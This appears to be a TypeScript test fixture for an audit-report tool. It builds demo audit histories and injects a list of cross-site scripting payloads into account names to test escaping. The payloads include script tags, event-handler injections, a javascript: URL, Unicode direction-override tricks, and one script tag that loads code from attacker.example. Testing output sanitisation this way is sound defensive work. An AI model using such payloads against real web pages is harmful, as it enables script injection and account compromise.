import { assess } from '../../../core/diagnosis/assess.ts';
import { withHistory } from '../../../core/lifecycle/timeline.ts';
import type { Report } from '../../../core/model/report.ts';
import { demoLater, demoWorld } from '../../../lab/demo.ts';
import { type Audit, auditWorld, thisSecond } from '../../scenarios/audit-world.ts';

const network = '127.48';
const hour = 3_600_000;

/** Three audits of the demo account, and what the last one says with the history of the other two. */
export async function demoHistory(): Promise<{ first: Audit; report: Report }> {
  const now = thisSecond();
  const at = (hours: number): string => new Date(Date.parse(now) - hours * hour).toISOString();
  const world = demoWorld({ network, now: at(5) });
  const first = await auditWorld(world);
  const second = await auditWorld(demoLater(world, at(3)));
  const began = performance.now();
  const last = await auditWorld(demoWorld({ network, now }));
  const finishedAt = new Date(Date.parse(now) + performance.now() - began).toISOString();
  const run = { ...last.report.run, finishedAt };
  return { first, report: withHistory({ ...last.report, run }, [first.report, second.report]) };
}

const long = 'long'.repeat(60);

/** What attackers put into names and logs: elements, ends of attributes and of styles, addresses, turned writing. */
export const attacks = [
  '<script>globalThis.struck=1</script>',
  '"><img src=x onerror="globalThis.struck=2">',
  "' onmouseover='globalThis.struck=3",
  '</style></title><script src="http://attacker.example/a.js"></script>',
  '<svg/onload=globalThis.struck=4>&lt;script&gt;',
  'javascript:globalThis.struck=5',
  `\u202Egnp.exe\u2066 \u200F${long}`,
];

/** The same account where every name and word that its people chose is an attack. */
export function attacked({ run, inventory, facts }: Audit): Report {
  const names = ['checkout', 'basket', 'gateway', 'settlement', 'payments', 'orders', 'fatal'];
  const strike = <Value>(value: Value): Value =>
    JSON.parse(
      names.reduce(
        (text, name, index) => text.replaceAll(name, JSON.stringify(`${name}${attacks[index]}`).slice(1, -1)),
        JSON.stringify(value),
      ),
    );
  return assess({ run, inventory: strike(inventory), facts: strike(facts) }).report;
}
